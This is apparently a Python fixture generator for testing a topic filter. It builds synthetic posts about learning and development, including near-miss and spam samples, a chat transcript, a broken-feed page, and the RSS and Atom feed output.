        "@jkim_learns We push spaced repetition questions through a"
        " Teams bot. Happy to share the setup.",
        reply="rp6",
    ),
    T(
        "rp14",
        "jkim_learns",
        "rp",
        "Reading group this week: the spacing effect and"
        " interleaving. Nice reminder that spaced practice feels harder and works better."
        " #RetrievalPractice",
    ),
    T(
        "rp15",
        "maya_okafor",
        "rp",
        "Virtual session tip: open with retrieval practice, not an"
        " agenda slide. Three warm-ups I use: {post:fc:6}",
    ),
    T(
        "rp16",
        "jkim_learns",
        "rp",
        "@tomasreyes_ld Yes please! A spaced repetition bot is exactly"
        " what they need. #SpacedRepetition",
        reply="rp13",
    ),
    T(
        "rp17",
        "ben_carter_ld",
        "rp",
        "This. The forgetting curve is a shape, not a law with decimals.",
        quote="rp8",
    ),
    # --- microlearning ---
    T(
        "ml1",
        "tomasreyes_ld",
        "ml",
        "Microlearning is a format, not a strategy. Wrote about the"
        " difference: {post:sb:0} #microlearning",
    ),
    T(
        "ml2",
        "tomasreyes_ld",
        "ml",
        "How we write a five-minute lesson: one decision, one example,"
        " one question. Template inside {post:sb:1} #microlearning",
    ),
    T(
        "ml3",
        "nadia_hr_learning",
        "ml",
        "Bite-sized learning in our ops chat channel gets ten"
        " times the views of the LMS course. Not surprised, still a little sad. #microlearning",
    ),
    T(
        "ml4",
        "ben_carter_ld",
        "ml",
        "Learning in the flow of work = a checklist linked from the"
        " ticket, not a course link in an email. #microlearning #LnD",
    ),
    T(
        "ml5",
        "ana_souza_ld",
        "ml",
        "Mobile learning for frontline staff without company phones:"
        " QR codes in the break room plus 3-minute videos. Works better than expected. #mLearning",
    ),
    T(
        "ml6",
        "jkim_learns",
        "ml",
        "Hot take: most microlearning libraries are long courses"
        " chopped up. A microlearning piece needs one job. #microlearning",
    ),
    T(
        "ml7",
        "nadia_hr_learning",
        "ml",
        "Just-in-time learning cards for the returns desk,"
        " written by the returns team themselves. Big improvement in first-time fixes."
        " #microlearning",
    ),
    T(
        "ml8",
        "omar_designs",
        "ml",
        "Designing bite-sized learning for night-shift nurses:"
        " captions on, audio off, one-handed. #mLearning #microlearning",
    ),
    T(
        "ml9",
        "tomasreyes_ld",
        "ml",
        "Retiring microlearning content is as important as making"
        " it. Every card gets an expiry date on day one. {post:sb:8}",
    ),
    T(
        "ml10",
        "sam_whitfield",
        "ml",
        "Piloting a microlearning series on feedback conversations:"
        " five lessons, five minutes each, delivered in the flow of work. #microlearning",
    ),
    T(
        "ml11",
        "omar_designs",
        "ml",
        "Our five-minute lesson template finally has a home. Link in the replies. #microlearning",
    ),
    T(
        "ml12",
        "omar_designs",
        "ml",
        "@omar_designs Here it is: {link:https://figma.example.com/"
        "file/5min-lesson} #microlearning",
        reply="ml11",
    ),
    T(
        "ml13",
        "maya_okafor",
        "rp+ml",
        "Spaced repetition meets microlearning: one five-minute"
        " lesson plus two review questions a week for field sales. {post:fc:3} #SpacedRepetition"
        " #microlearning",
    ),
    # --- onboarding ---
    T(
        "ob1",
        "northwind_people",
        "ob",
        "Preboarding: what we now send before day one (laptop,"
        " calendar, a buddy's name) {post:fn:0} #onboarding",
    ),
    T(
        "ob2",
        "nadia_hr_learning",
        "ob",
        "Employee onboarding is a 90-day job, not a one-day"
        " induction. Checkpoints at day 30, 60 and 90 changed everything for us. #onboarding",
    ),
    T(
        "ob3",
        "ben_carter_ld",
        "ob",
        "Our onboarding buddy scheme is the most praised part of the"
        " first 90 days in every survey. Cheap, human, effective. #EmployeeOnboarding",
    ),
    T(
        "ob4",
        "rachel_ops",
        "ob",
        "New hire onboarding for warehouse shifts: we stopped doing it"
        " on nights. Retention up. #onboarding",
    ),
    T(
        "ob5",
        "omar_designs",
        "ob",
        "Remote employee onboarding across 4 time zones: async welcome"
        " videos and a live meet-the-team call each week. #EmployeeOnboarding",
    ),
    T(
        "ob6",
        "northwind_people",
        "ob",
        "Managers: our first 90 days checklist is now one page. {post:fn:1} #onboarding",
    ),
    T(
        "ob7",
        "jkim_learns",
        "ob",
        "Preboarding emails shouldn't read like legal notices. Ours now"
        " start with a photo of the team. #onboarding",
    ),
    T(
        "ob8",
        "sam_whitfield",
        "ob",
        "Mapping our onboarding program against the first 90 days"
        " this week. Where do new starters get stuck? #onboarding",
    ),
    T(
        "ob9",
        "ana_souza_ld",
        "ob",
        "An onboarding buddy with one protected hour a week beats any"
        " e-learning module. #EmployeeOnboarding",
    ),
    T(
        "ob10",
        "rachel_ops",
        "ob",
        "Day one without passwords: IT pre-provisions, L&D runs the"
        " welcome. Our new hire onboarding finally feels human. {post:fn:16}",
    ),
    T(
        "ob11",
        "nadia_hr_learning",
        "ob",
        "@sam_whitfield Week 3 is where ours got stuck. We added"
        " an onboarding buddy check-in there. #onboarding",
        reply="ob8",
    ),
    # --- learning analytics ---
    T(
        "la1",
        "priya_raman",
        "la",
        "Learning analytics starts with a question the business cares"
        " about. Not with whatever your LMS exports. {post:sn:0} #LearningAnalytics",
    ),
    T(
        "la2",
        "priya_raman",
        "la",
        "xAPI statements we regret sending: 'experienced' for every"
        " page view. Our learning record store became a landfill. #xAPI",
    ),
    T(
        "la3",
        "ben_carter_ld",
        "la",
        "Completion rates are a compliance metric. Learning analytics"
        " needs performance data from the business. #LearningAnalytics",
    ),
    T(
        "la4",
        "data_dan_ld",
        "la",
        "Choosing a learning record store this quarter. The"
        " requirements doc is 4 pages; most of it is about who reads the xAPI statements. #xAPI",
    ),
    T(
        "la5",
        "priya_raman",
        "la",
        "Kirkpatrick level 3 evidence without a research team: partner"
        " with ops, agree two behaviours, observe. #LearningAnalytics",
    ),
    T(
        "la6",
        "data_dan_ld",
        "la",
        "Built a learning analytics dashboard with exactly three numbers"
        " the sponsor chose. First one anyone has opened twice. #LearningAnalytics",
    ),
    T(
        "la7",
        "jkim_learns",
        "la",
        "Anyone migrated between learning record store vendors? How"
        " painful was exporting the xAPI statements? #xAPI",
    ),
    T(
        "la8",
        "sam_whitfield",
        "la+rp",
        "Using xAPI statements to see whether spaced practice"
        " nudges change anything downstream. Early days. #xAPI #SpacedRepetition",
    ),
    T(
        "la9",
        "priya_raman",
        "la",
        "Privacy note for learning analytics projects: tell people what"
        " you collect before you collect it. #LearningAnalytics",
    ),
    T(
        "la10",
        "data_dan_ld",
        "la",
        "Training effectiveness review today: the sponsor asked what"
        " we'd stop doing. Best question all year. #LearningAnalytics",
    ),
    T(
        "la11",
        "acme_learning",
        "la",
        "Native xAPI support is here: send xAPI statements to any"
        " learning record store. {post:ac:5}",
    ),
    # --- near-misses: tempting words, no topic phrase or hashtag ---
    T(
        "nm_rp1",
        "coffee_and_code",
        "near:rp",
        "Office space hunting again. Every creative space"
        " has a ping-pong table and no quiet corner to practice a talk.",
    ),
    T(
        "nm_rp2",
        "search_nerd",
        "near:rp",
        "Great keynote on data retrieval at scale. Vector indexes everywhere. #SearchConf",
    ),
    T(
        "nm_rp3",
        "jazz_pianist_mo",
        "near:rp",
        "Repetition is the mother of skill, my piano teacher"
        " said. Forgetting is the father of excuses, I replied. I was nine.",
    ),
    T(
        "nm_rp4",
        "travel_tina",
        "near:rp",
        "Totally spaced out after the red-eye. Someone please point me to the coffee.",
    ),
    T(
        "nm_ml1",
        "dev_rahul",
        "near:ml",
        "Splitting the monolith into microservices, week 6. Send snacks.",
    ),
    T(
        "nm_ml2",
        "foodie_jen",
        "near:ml",
        "Bite-sized brownies at the conference coffee break are the real keynote. #LDConf26",
    ),
    T(
        "nm_ml3",
        "dev_rahul",
        "near:ml",
        "Our mobile app release is in the store. Learning"
        " experience for the team: never ship on a Friday.",
    ),
    T(
        "nm_ob1",
        "saas_growth_guru",
        "near:ob",
        "User onboarding tip: cut your signup form to 3"
        " fields and watch activation climb. #SaaS #growth",
    ),
    T(
        "nm_ob2",
        "travel_tina",
        "near:ob",
        "Boarding group 5 again. At this point I'm basically cargo.",
    ),
    T(
        "nm_ob3",
        "footy_phil",
        "near:ob",
        "New manager's first 90 minutes in charge: two goals, one red card, zero tactics. Love it.",
    ),
    T(
        "nm_ob4",
        "hr_memes",
        "near:ob",
        "Getting the whole leadership team on board with the new"
        " expenses tool took longer than building it.",
    ),
    T(
        "nm_la1",
        "growth_hacker_sam",
        "near:la",
        "Marketing analytics question: anyone else seeing"
        " attribution go weird this week? #analytics",
    ),
    T(
        "nm_la2",
        "vinyl_vic",
        "near:la",
        "Saturday haul from the record store: two jazz reissues and a mystery 12-inch. #vinyl",
    ),
    T(
        "nm_la3",
        "footy_phil",
        "near:la",
        "Sports analytics people will tell you expected goals"
        " explains everything. It does not explain our defence.",
    ),
    # --- hand-written chatter (role other) ---
    T(
        "o1",
        "ldconf_eu",
        "other",
        "Registration opens at 8:00 in Hall B. Have your QR code ready"
        " and skip the queue at desk 3. #LDConf26",
    ),
    T(
        "o2",
        "ldconf_eu",
        "other",
        "Lunch is in the Atrium today. Vegetarian and vegan options on"
        " the left-hand counters. #LDConf26",
    ),
    T(
        "o3",
        "ldconf_eu",
        "other",
        "Wi-Fi: network LDConf-Guest, password on the back of your badge. #LDConf26",
    ),
    T(
        "o4",
        "ben_carter_ld",
        "other",
        "Which session are people going to after lunch? Torn"
        " between the AI panel and the storytelling workshop. #LDConf26",
    ),
    T("o5", "ana_souza_ld", "other", "Third coffee before 10am. Conference mode engaged."),
    T(
        "o6",
        "grace_facilitates",
        "other",
        "Facilitation kit restocked: new markers, painter's tape,"
        " a timer that doesn't beep like a microwave.",
    ),
    T(
        "o7",
        "maya_okafor",
        "other",
        "Reading group picks for December are in. Thanks for the votes, everyone.",
    ),
    T(
        "o8",
        "priya_raman",
        "other",
        "If your spreadsheet has a column called FINAL_v3_really, we"
        " need to talk. Office hours on Tuesday.",
    ),
    T(
        "o9",
        "tomasreyes_ld",
        "other",
        "Train Wi-Fi held up for a whole video call. Miracles happen.",
    ),
    T(
        "o10",
        "sam_whitfield",
        "other",
        "Anyone have a favourite tool for recording quick screen"
        " demos? Budget is approximately zero.",
    ),
    T(
        "o11",
        "jkim_learns",
        "other",
        "Storytelling workshop was the highlight of the day. The"
        " facilitator made forty strangers laugh within five minutes. #LDConf26",
    ),
    T(
        "o12",
        "omar_designs",
        "other",
        "Alt text check: does it say why the image is there? If not, rewrite it.",
    ),
    T(
        "o13",
        "rachel_ops",
        "other",
        "Safety stand-down at 6am with the night shift. Good questions, great tea.",
    ),
    T(
        "o14",
        "data_dan_ld",
        "other",
        "Cleaning data on a Friday afternoon is a form of meditation. Or punishment. Unclear.",
    ),
    T(
        "o15",
        "nadia_hr_learning",
        "other",
        "Our mental health first aider applications are open until the end of the month.",
    ),
    T(
        "o16",
        "dr_lena_fox",
        "other",
        "Conference talk slides are up on my site. Thanks to everyone who came to the early slot!",
    ),
    T(
        "o17",
        "ben_carter_ld",
        "other",
        "Great to see so many familiar faces at #LDConf26. The hallway track wins again.",
    ),
    T(
        "o18",
        "sam_whitfield",
        "other",
        "Packing list for tomorrow: laptop, charger, badge, the good pens. #LDConf26",
    ),
    T(
        "o19",
        "grace_facilitates",
        "other",
        "Hybrid room tip: put the camera at eye level and the"
        " remote people on the big screen, not a laptop at the back.",
    ),
    T(
        "o20",
        "ana_souza_ld",
        "other",
        "Who's going to the community meetup in Lisbon next"
        " month? Looking for people to share a taxi from the airport.",
    ),
    # --- retweets and quotes ---
    T("rt1", "sam_whitfield", "", rt="rp1"),
    T("rt2", "sam_whitfield", "", rt="rp3"),
    T("rt3", "ben_carter_ld", "", rt="rp8"),
    T("rt4", "sam_whitfield", "", rt="ml1"),
    T("rt5", "ana_souza_ld", "", rt="ml2"),
    T("rt6", "sam_whitfield", "", rt="ob1"),
    T("rt7", "jkim_learns", "", rt="la1"),
    T("rt8", "sam_whitfield", "", rt="la2"),
    T("rt9", "tomasreyes_ld", "", rt="ml13"),
    T("rt10", "sam_whitfield", "", rt="o1"),
    T("rt11", "maya_okafor", "", rt="o16"),
    T("rt12", "omar_designs", "", rt="o3"),
    T("rt13", "ben_carter_ld", "", rt="nm_ob1"),
    T(
        "q1",
        "sam_whitfield",
        "ob",
        "Stealing this for our onboarding program. The day-one calendar alone is worth it.",
        quote="ob1",
    ),
    T("q2", "priya_raman", "other", "Very much this.", quote="o8"),
    T(
        "q3",
        "maya_okafor",
        "rp",
        "Lena is right, and it's why I ask people to draw the"
        " forgetting curve before they quote it.",
        quote="rp3",
    ),
]

# Filler chatter, built from small phrase tables with the seeded generator.
COFFEE = [
    "Flat white number two. The inbox can wait.",
    "New coffee place by the office does oat milk properly. Productivity up 40%.",
    "Spilled coffee on my notes. The notes were not that good anyway.",
    "Cold brew season is over, apparently. I did not agree to this.",
    "Decaf after 3pm. I'm a changed person.",
    "The office espresso machine is broken again. Morale is low.",
    "Tried the cardamom latte. Would recommend to anyone who likes cardamom.",
    "Making pour-over while the build runs. Balance.",
]
CONF_LOGISTICS = [
    "Session {s} has moved to Room {r}. Same time, bigger room. #LDConf26",
    "Coffee is now served on Level {l}, next to Room {r}. #LDConf26",
    "Reminder: the evening reception starts at 18:{m:02d} in the Atrium. Bring your badge."
    " #LDConf26",
    "Room {r} is full. Overflow seating with a live stream in Room {r2}. #LDConf26",
    "Lost property: a blue water bottle and a phone charger at the desk on Level {l}. #LDConf26",
    "Shuttle buses to the station leave every {m} minutes from the main entrance. #LDConf26",
]
SPORTS = [
    "{team} {a}-{b} {opp}. {mood}",
    "Half-time: {team} {a}, {opp} {b}. {mood}",
    "Parkrun PB this morning: {mins}:{secs:02d}. Legs are not speaking to me.",
    "Cricket on the radio, rain on the window. Perfect Sunday.",
]
TEAMS = ["Leeds", "Porto", "Ajax", "Celtic", "Lyon", "Sevilla", "Dortmund", "Napoli"]
MOODS = [
    "What a game.",
    "We go again.",
    "Defending like it's a group project.",
    "I need a lie down.",
    "Referee had a day.",
    "Season's not over yet.",
]
JOB_ROLES = [
    "Instructional Designer",
    "Senior Learning Experience Designer",
    "L&D Business Partner",
    "eLearning Developer (Articulate)",
    "Facilitator, Leadership Programmes",
    "Learning Technologist",
    "Content Producer, Video",
]
JOB_PLACES = ["London", "Remote (EU)", "Toronto", "Dublin", "Remote (US)", "Sydney", "Berlin"]
SPAM = (
    "🔥 Earn $500/day from home!! No experience needed, DM now 💰 #elearning #edtech #AI"
    " #career #hustle #money #motivation #success",
    "Get 10K followers in 24h 🚀🚀 link in bio #edtech #learning #growth #business #marketing"
    " #success #AI #trending",
    "FREE course certificates, any course, instant download 🎓 #elearning #certificate #edtech"
    " #careers #jobs #learning #free #online",
)
# Eight hashtags, one of them a topic hashtag: a hashtag match alone would keep it, so pln.yaml
# blocks the account (expected.json lists it under blocked).
SPAM_WITH_TOPIC_TAG = (
    "💸 Crypto signals that PAY 💸 join the group today #crypto #bitcoin #microlearning #money"
    " #invest #trading #edtech #success"
)
LINK_ONLY = [
    "https://news.example.com/2026/10/office-return-survey",
    "https://video.example.tv/watch?v=q8Zr0w",
    "https://blog.example.io/posts/weekend-reading",
    "https://podcast.example.fm/episodes/142",
    "https://photos.example.net/album/lisbon-meetup",
]
FILLER_AUTHORS = [
    "ben_carter_ld",
    "ana_souza_ld",
    "jkim_learns",
    "omar_designs",
    "rachel_ops",
    "data_dan_ld",
    "nadia_hr_learning",
    "coffee_and_code",
    "footy_phil",
    "travel_tina",
    "cityrunners",
]

# ---------------------------------------------------------------------------------------------
# The #lrnchat transcript: (seconds after 20:30 ET, author, text). Q1-Q4 are about spaced and
# retrieval practice (role rp); Q5 and the welcome/goodbye chatter match no topic.
# ---------------------------------------------------------------------------------------------

CHAT_DATE = "2026-11-19"
CHAT_OFFSET = "-05:00"
CHAT = [
    (
        0,
        "lrnchat",
        "Welcome to #lrnchat! Tonight's theme: making learning stick after the"
        " session ends. Say hi and tell us where you're joining from.",
    ),
    (25, "jane_ld", "Hi all! Jane, instructional designer, joining from a snowy Toronto #lrnchat"),
    (
        41,
        "teach_tom",
        "Evening! Tom here, teacher turned trainer, Bristol. Past my bedtime #lrnchat",
    ),
    (58, "maya_okafor", "Hello from London, tea in hand #lrnchat"),
    (72, "li_wei_ld", "Hi everyone, Li from Singapore, it's breakfast time here #lrnchat"),
    (90, "ben_carter_ld", "Ben, L&D at a logistics firm in Leeds. First time in a while! #lrnchat"),
    (
        104,
        "grace_facilitates",
        "Grace, facilitator, Gothenburg. Lurking with a cup of cocoa #lrnchat",
    ),
    (121, "ana_souza_ld", "Oi from Porto! Ana, learning designer in healthcare #lrnchat"),
    (
        150,
        "lrnchat",
        "Reminder: answer with A1, A2... and include #lrnchat so we can find you. Q1 in a minute.",
    ),
    (
        185,
        "lrnchat",
        "Q1. What does spaced practice look like in your courses today, if at all? #lrnchat",
    ),
    (
        230,
        "jane_ld",
        "A1. We send short quizzes 2, 7 and 21 days after the workshop. Spaced"
        " practice by email, low tech but it works #lrnchat",
    ),
    (
        262,
        "ben_carter_ld",
        "A1 - honestly? Mostly it doesn't. One big day and a certificate. Working on it #lrnchat",
    ),
    (
        280,
        "maya_okafor",
        "A1. Three prompts after every compliance workshop, spread over a month."
        " Spaced practice nudges, voluntary #lrnchat",
    ),
    (
        301,
        "teach_tom",
        "A1. In school we called it revisiting. Same idea as spaced practice,"
        " different staffroom #lrnchat",
    ),
    (333, "ana_souza_ld", "A1) Spaced repetition flashcards for dosage rules, two a day #lrnchat"),
    (
        352,
        "li_wei_ld",
        "A1. We split a two-day programme into four half days over a month. Same"
        " hours, much better recall #lrnchat",
    ),
    (
        379,
        "jkim_learns",
        "A1: joining late! For us spaced practice = manager check-ins at week 2"
        " and week 6 #lrnchat",
    ),
    (
        401,
        "maya_okafor",
        "@jane_ld 2, 7 and 21 days is almost exactly what we landed on too #lrnchat",
    ),
    (
        430,
        "omar_designs",
        "A1. Microcopy reminders in the app we already use, nothing fancy #lrnchat",
    ),
    (
        470,
        "lrnchat",
        "Q2: How do you make retrieval practice feel safe rather than like a test? #lrnchat",
    ),
    (
        505,
        "grace_facilitates",
        "A2. No scores, no names. Retrieval practice as a private"
        " brain dump on paper, then compare with a neighbour #lrnchat",
    ),
    (
        531,
        "dr_lena_fox",
        "A2. Call it practice, not a quiz. The research says the benefit comes"
        " from the retrieval, not the grade #lrnchat",
    ),
    (560, "jane_ld", "A2. Open-book first round, closed-book second round. People relax #lrnchat"),
    (
        587,
        "nadia_hr_learning",
        "A2 - we frame it as 'what would you do next?' scenarios, never definitions #lrnchat",
    ),
    (
        603,
        "sam_whitfield",
        "A2. Retrieval practice at the start of each session: three questions"
        " about last time, answers discussed in pairs. Nobody sees anyone's answers #lrnchat",
    ),
    (632, "teach_tom", "A2. Kids taught me this: make it a game with no losers #lrnchat"),
    (
        660,
        "ana_souza_ld",
        "@dr_lena_fox Yes! Calling it practice changed everything for our nurses #lrnchat",
    ),
    (
        689,
        "tomasreyes_ld",
        "A2. Two questions in chat, answers revealed after thirty seconds, anonymous poll #lrnchat",
    ),
    (
        712,
        "rachel_ops",
        "A2. Hi all, sneaking in from a night shift. We do it at the shift"
        " huddle, out loud, as a team. Nobody is singled out #lrnchat",
    ),
    (
        760,
        "lrnchat",
        "Q3. How do you pick the spacing intervals, and what tools help you"
        " schedule the reviews? #lrnchat",
    ),
    (
        790,
        "li_wei_ld",
        "A3. We use a spaced repetition app for facts, calendar invites for"
        " everything else #lrnchat",
    ),
    (
        812,
        "maya_okafor",
        "A3. Rule of thumb: the next review when people are just about to"
        " forget. For us that's roughly 2 days, a week, a month. Spaced repetition software does"
        " the maths for flashcards #lrnchat",
    ),
    (
        840,
        "ben_carter_ld",
        "A2 (late) we started doing retrieval practice at toolbox talks, zero pushback #lrnchat",
    ),
    (
        861,
        "jkim_learns",
        "A3. Honestly, a shared spreadsheet and reminders. The spaced practice"
        " schedule matters more than the tool #lrnchat",
    ),
    (
        889,
        "omar_designs",
        "A3) We built a tiny Teams bot for spaced repetition questions. Happy to share #lrnchat",
    ),
    (
        905,
        "jane_ld",
        "A3. Widening intervals. We tried fixed weekly spaced practice and people"
        " got bored #lrnchat",
    ),
    (
        930,
        "dr_lena_fox",
        "A3. The spacing effect is robust across a wide range of gaps. Don't"
        " overthink the exact days; just don't cram #lrnchat",
    ),
    (951, "grace_facilitates", "@omar_designs Yes please, share the bot! #lrnchat"),
    (
        985,
        "lrnchat",
        "Q4. How do you convince stakeholders that one long workshop is not"
        " enough? Does the forgetting curve argument work? #lrnchat",
    ),
    (
        1015,
        "ben_carter_ld",
        "A4. Show them their own data: quiz scores a month later. The"
        " forgetting curve is more convincing with our logo on it #lrnchat",
    ),
    (
        1042,
        "nadia_hr_learning",
        "A4. We stopped arguing and ran a pilot: one group with spaced"
        " practice, one without. The results did the talking #lrnchat",
    ),
    (
        1068,
        "maya_okafor",
        "A4. Careful with the forgetting curve chart, the numbers are often"
        " made up. Use it for the shape, not the percentages #lrnchat",
    ),
    (
        1090,
        "teach_tom",
        "A4. Ask them how they learned to drive. Nobody did it in one day #lrnchat",
    ),
    (
        1116,
        "ana_souza_ld",
        "A4 - same hours, different calendar. Spaced practice doesn't have"
        " to cost more, that's the line that works #lrnchat",
    ),
    (
        1139,
        "sam_whitfield",
        "A4. I frame it as risk: what happens when people forget the"
        " procedure in month two? Then retrieval practice sounds cheap #lrnchat",
    ),
    (
        1160,
        "li_wei_ld",
        "A4. Stakeholders love a pilot with a control group. Sounds scientific,"
        " costs little #lrnchat",
    ),
    (
        1187,
        "rachel_ops",
        "A3 (late, sorry) we schedule reviews around shift patterns so spaced"
        " practice lands on quiet nights #lrnchat",
    ),
    (
        1220,
        "lrnchat",
        "Q5. Lighter one to finish: what are you reading, watching or listening"
        " to for your own growth this winter? #lrnchat",
    ),
    (
        1248,
        "jane_ld",
        "A5. Rereading a classic on habits, and a podcast about design history #lrnchat",
    ),
    (1270, "teach_tom", "A5. A biography of a jazz drummer. Not work, but it counts #lrnchat"),
    (
        1291,
        "grace_facilitates",
        "A5. A book on group dynamics from the seventies that still"
        " holds up, and the new season of a cooking show #lrnchat",
    ),
    (
        1314,
        "omar_designs",
        "A5. A typography course, finally. Twelve weeks, one evening a week #lrnchat",
    ),
    (
        1338,
        "jkim_learns",
        "A5. Audiobooks on the commute, mostly history. Currently the Silk Road #lrnchat",
    ),
    (1355, "li_wei_ld", "A5. Learning Portuguese with my kids. They are winning #lrnchat"),
    (
        1377,
        "tomasreyes_ld",
        "A5. A podcast series on the history of maps. Weirdly useful for"
        " thinking about navigation in courses #lrnchat",
    ),
    (1400, "dr_lena_fox", "A5. Reviewing papers, sadly. And a mystery novel as a reward #lrnchat"),
    (
        1421,
        "ana_souza_ld",
        "A5. A documentary series about hospitals in the 1950s. Humbling #lrnchat",
    ),
    (1445, "ben_carter_ld", "A5 - the football club's podcast. Don't judge me #lrnchat"),
    (
        1470,
        "maya_okafor",
        "A5. A memoir by a nurse, recommended by @ana_souza_ld last month."
        "\nStill thinking about chapter three, the night shift one. #lrnchat",
    ),
    (
        1500,
        "lrnchat",
        "That's a wrap! Thank you all for a lively hour. The transcript will be"
        " posted on the website tomorrow. Next week: designing for accessibility. #lrnchat",
    ),
    (1522, "jane_ld", "Thanks everyone, lots to steal as usual #lrnchat"),
    (1536, "teach_tom", "Goodnight all, off to bed #lrnchat"),
    (1549, "li_wei_ld", "Thank you! Back to my breakfast #lrnchat"),
    (1563, "grace_facilitates", "Lovely chat. See you next week #lrnchat"),
    (1580, "ana_souza_ld", "Obrigada, everyone! #lrnchat"),
    (1601, "sam_whitfield", "Thanks all, and thanks to the mods for hosting #lrnchat"),
    (1625, "rachel_ops", "Back to the night shift. Bye all #lrnchat"),
]
CHAT_THREAD_ROLES = {1: "rp", 2: "rp", 3: "rp", 4: "rp", 5: ""}

BROKEN_FEED = """<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>502 Bad Gateway</title>
<style>body { font-family: sans-serif; margin: 4em; color: #333; }</style>
</head>
<body>
<h1>502 Bad Gateway</h1>
<p>The server returned an invalid or incomplete response.</p>
<p>Please try again in a few minutes. Reference: 7f3a-91c2-2026-11-24</p>
<hr>
<address>nginx</address>
</body>
</html>
"""

# ---------------------------------------------------------------------------------------------
# Building
# ---------------------------------------------------------------------------------------------


def roles_of(role: str) -> list[str]:
    """Topic ids an item is designed to match ("rp+ml" -> both; near-misses and other: none)."""
    if not role or role == "other" or role.startswith("near:"):
        return []
    return [TOPICS[k] for k in role.split("+")]


def near_of(role: str) -> str:
    return TOPICS[role[5:]] if role.startswith("near:") else ""


def slugify(title: str) -> str:
    return re.sub(r"[^a-z0-9]+", "-", title.lower().replace("'", "")).strip("-")


def random_times(rng: random.Random, n: int) -> list[datetime]:
    span = int((END - START).total_seconds())
    return sorted(START + timedelta(seconds=rng.randrange(span)) for _ in range(n))


class Cycler:
    """Hands out paragraphs of a bank in a seeded order, so posts rarely share one."""

    def __init__(self, rng: random.Random, items: list[str]):
        self.rng, self.items, self.queue = rng, items, []

    def take(self, avoid: tuple[str, ...] = ()) -> str:
        if not self.queue:
            self.queue = list(self.items)
            self.rng.shuffle(self.queue)
        for i, item in enumerate(self.queue):
            if item not in avoid:
                return self.queue.pop(i)
        return self.queue.pop(0)


@dataclass
class BuiltPost:
    blog: Blog
    index: int
    post: Post
    when: datetime
    url: str
    href: str  # the link as written in the feed (relative under xml:base)
    author: str
    html: str


def build_posts(rng: random.Random) -> dict[str, list[BuiltPost]]:
    cyclers = {k: Cycler(rng, v) for k, v in BANKS.items()}
    general = Cycler(rng, GENERAL)
    out: dict[str, list[BuiltPost]] = {}
    for blog in BLOGS:
        tz = timezone(timedelta(hours=blog.tz_hours))
        times = random_times(rng, len(blog.posts))
        rng.shuffle(times)
        built = []
        for i, (post, when) in enumerate(zip(blog.posts, times, strict=True)):
            when = when.astimezone(tz).replace(microsecond=0)
            path = f"{when:%Y/%m}/{slugify(post.title)}/"
            url = f"{blog.site}/{path}"
            href = path if blog.xml_base else url
            author = blog.authors[i % len(blog.authors)]
            paragraphs = [escape(post.lede)]
            keys = post.role.split("+") if roles_of(post.role) else []
            if len(keys) == 1:
                first = cyclers[keys[0]].take()
                paragraphs += [first, cyclers[keys[0]].take(avoid=(first,))]
            elif keys:
                paragraphs += [cyclers[k].take() for k in keys]
            else:
                first = general.take()
                paragraphs.append(first)
                if rng.random() < 0.5:
                    paragraphs.append(general.take(avoid=(first,)))
            html = "".join(f"<p>{p}</p>" for p in paragraphs)
            html += _closing(rng, blog, when)
            html += post.extra_html
            built.append(BuiltPost(blog, i, post, when, url, href, author, html))
        out[blog.key] = built
    return out


def _closing(rng: random.Random, blog: Blog, when: datetime) -> str:
    base = "" if blog.relative_links else blog.site
    archive = f"{base}/{when:%Y/%m}/"
    choice = rng.randrange(3)
    if choice == 0:
        return f'<p>More from this month in <a href="{archive}">the archive</a>.</p>'
    if choice == 1:
        img = f"{base}/images/{when:%Y%m%d}-sketch.png"
        return (
            f'<p><img src="{img}" alt="A hand-drawn sketch of the idea" width="600"></p>'
            f'<p>Questions? <a href="{base}/contact/">Get in touch</a>.</p>'
        )
    return (
        '<ul><li><a href="https://example.org/reading-list">Reading list</a></li>'
        f'<li><a href="{base}/about/">About this blog</a></li></ul>'
    )


def rss_feed(blog: Blog, posts: list[BuiltPost]) -> str:
    newest = max(p.when for p in posts)
    lines = [
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<rss version="2.0" xmlns:atom="http://www.w3.org/2005/Atom"'
        ' xmlns:content="http://purl.org/rss/1.0/modules/content/"'
        ' xmlns:dc="http://purl.org/dc/elements/1.1/">',
        "<channel>",
        f"  <title>{escape(blog.title)}</title>",
        f"  <link>{blog.site}/</link>",
        f"  <description>{escape(blog.description)}</description>",
        "  <language>en-gb</language>",
        f"  <lastBuildDate>{format_datetime(newest)}</lastBuildDate>",
        "  <generator>Hugo</generator>",
        f'  <atom:link href="{blog.site}/index.xml" rel="self" type="application/rss+xml"/>',
    ]
    for p in sorted(posts, key=lambda p: p.when, reverse=True):
        lines += [
            "  <item>",
            f"    <title>{escape(p.post.title)}</title>",
            f"    <link>{p.url}</link>",
        ]
        if p.post.guid:
            if blog.cdata:
                lines.append(f'    <guid isPermaLink="true">{p.url}</guid>')
            else:
                lines.append(
                    f'    <guid isPermaLink="false">northwind-people-{1400 + p.index}</guid>'
                )
        lines.append(f"    <pubDate>{format_datetime(p.when)}</pubDate>")
        lines.append(f"    <dc:creator>{escape(p.author)}</dc:creator>")
        lines += [f"    <category>{escape(c)}</category>" for c in p.post.categories]
        lines.append(f"    <description>{escape(p.post.lede)}</description>")
        if blog.cdata:
            lines.append(f"    <content:encoded><![CDATA[{p.html}]]></content:encoded>")
        else:
            lines.append(f"    <content:encoded>{escape(p.html)}</content:encoded>")
        lines.append("  </item>")
    lines += ["</channel>", "</rss>", ""]
    return "\n".join(lines)


def atom_feed(blog: Blog, posts: list[BuiltPost]) -> str:
    host = blog.site.split("//", 1)[1].split("/", 1)[0]
    newest = max(p.when for p in posts)
    base = f' xml:base="{blog.site}/"' if blog.xml_base else ""
    lines = [
        '<?xml version="1.0" encoding="utf-8"?>',
        f'<feed xmlns="http://www.w3.org/2005/Atom"{base}>',
        f"  <title>{escape(blog.title)}</title>",
        f"  <subtitle>{escape(blog.description)}</subtitle>",
        f'  <link rel="alternate" type="text/html" href="{blog.site}/"/>',
        f'  <link rel="self" type="application/atom+xml" href="{blog.site}/feed.atom"/>',
        f"  <id>tag:{host},2026:feed</id>",
        f"  <updated>{newest.isoformat()}</updated>",
        f"  <author><name>{escape(blog.authors[0])}</name></author>",
    ]
    for p in sorted(posts, key=lambda p: p.when, reverse=True):
        updated = p.when + timedelta(hours=p.index % 3)
        lines += [
            "  <entry>",
            f"    <title>{escape(p.post.title)}</title>",
            f'    <link rel="alternate" type="text/html" href={quoteattr(p.href)}/>',
